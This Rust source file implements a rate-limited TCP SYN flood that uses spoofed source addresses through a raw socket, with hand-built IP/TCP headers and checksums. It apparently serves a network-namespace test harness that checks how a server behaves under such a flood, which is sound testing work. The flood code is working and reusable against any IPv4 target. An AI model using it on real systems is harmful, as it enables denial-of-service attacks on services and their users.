//! A SYN flood from spoofed sources, sent through a raw socket.

use std::{
    net::{Ipv4Addr, SocketAddr},
    time::{Duration, Instant},
};

/// Flood sources: addresses of the client's namespace whose RSTs (the kernel's answer to the
/// primary's SYN-ACKs) are dropped, as a flood from spoofed sources gets none: the flows stay.
pub const FLOOD_SOURCES: [Ipv4Addr; 4] = [
    Ipv4Addr::new(10, 77, 0, 101),
    Ipv4Addr::new(10, 77, 0, 102),
    Ipv4Addr::new(10, 77, 0, 103),
    Ipv4Addr::new(10, 77, 0, 104),
];

/// The Internet checksum of `data` (plus `sum`, a partial sum).
fn checksum(data: &[u8], mut sum: u32) -> u16 {
    for pair in data.chunks(2) {
        sum += u32::from(u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)]));
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// An IPv4 packet carrying a TCP SYN from `src:sport` to `dst:dport` with sequence number `seq`.
fn syn_packet(src: Ipv4Addr, sport: u16, dst: Ipv4Addr, dport: u16, seq: u32) -> [u8; 40] {
    let mut p = [0u8; 40];
    p[..12].copy_from_slice(&[0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6, 0, 0]);
    p[12..16].copy_from_slice(&src.octets());
    p[16..20].copy_from_slice(&dst.octets());
    let ip_sum = checksum(&p[..20], 0);
    p[10..12].copy_from_slice(&ip_sum.to_be_bytes());
    let tcp = &mut p[20..];
    tcp[..2].copy_from_slice(&sport.to_be_bytes());
    tcp[2..4].copy_from_slice(&dport.to_be_bytes());
    tcp[4..8].copy_from_slice(&seq.to_be_bytes());
    tcp[12] = 0x50; // data offset: 5 words
    tcp[13] = 0x02; // SYN
    tcp[14..16].copy_from_slice(&64_240u16.to_be_bytes());
    let mut pseudo = [0u8; 12];
    pseudo[..4].copy_from_slice(&src.octets());
    pseudo[4..8].copy_from_slice(&dst.octets());
    pseudo[9] = 6;
    pseudo[11] = 20;
    let partial = checksum(&pseudo, 0);
    let tcp_sum = checksum(tcp, u32::from(!partial));
    tcp[16..18].copy_from_slice(&tcp_sum.to_be_bytes());
    p
}

/// Sends SYNs to `dst` from [`FLOOD_SOURCES`] and random ports through a raw socket (IP_HDRINCL),
/// `rate` a second for `duration` (run on a thread inside the client's namespace). Returns how
/// many were sent.
pub fn syn_flood(dst: SocketAddr, rate: u64, duration: Duration) -> std::io::Result<u64> {
    let SocketAddr::V4(dst) = dst else { unreachable!("IPv4") };
    // SAFETY: plain socket calls on a descriptor we own and close.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_TCP) };
    if fd < 0 {
        return Err(std::io::Error::last_os_error());
    }
    let one: libc::c_int = 1;
    // SAFETY: a c_int option of the right size.
    let rc =
        unsafe { libc::setsockopt(fd, libc::IPPROTO_IP, libc::IP_HDRINCL, (&one as *const libc::c_int).cast(), 4) };
    if rc != 0 {
        return Err(std::io::Error::last_os_error());
    }
    let addr = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: dst.port().to_be(),
        sin_addr: libc::in_addr { s_addr: u32::from(*dst.ip()).to_be() },
        sin_zero: [0; 8],
    };
    let mut x: u64 = 0x2545_f491_4f6c_dd1d;
    let mut next = || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    let start = Instant::now();
    let mut sent = 0u64;
    while start.elapsed() < duration {
        let due = (start.elapsed().as_micros() as u64 * rate / 1_000_000).min(duration.as_secs() * rate);
        while sent < due {
            let r = next();
            let src = FLOOD_SOURCES[(r & 3) as usize];
            let sport = 1024 + ((r >> 8) % 64_000) as u16;
            let p = syn_packet(src, sport, *dst.ip(), dst.port(), (r >> 32) as u32);
            // SAFETY: a valid buffer and address of the sizes given.
            let n = unsafe {
                libc::sendto(
                    fd,
                    p.as_ptr().cast(),
                    p.len(),
                    0,
                    (&addr as *const libc::sockaddr_in).cast(),
                    std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
                )
            };
            if n < 0 {
                let e = std::io::Error::last_os_error();
                // SAFETY: closing our descriptor.
                unsafe { libc::close(fd) };
                return Err(e);
            }
            sent += 1;
        }
        std::thread::sleep(Duration::from_micros(500));
    }
    // SAFETY: closing our descriptor.
    unsafe { libc::close(fd) };
    Ok(sent)
}
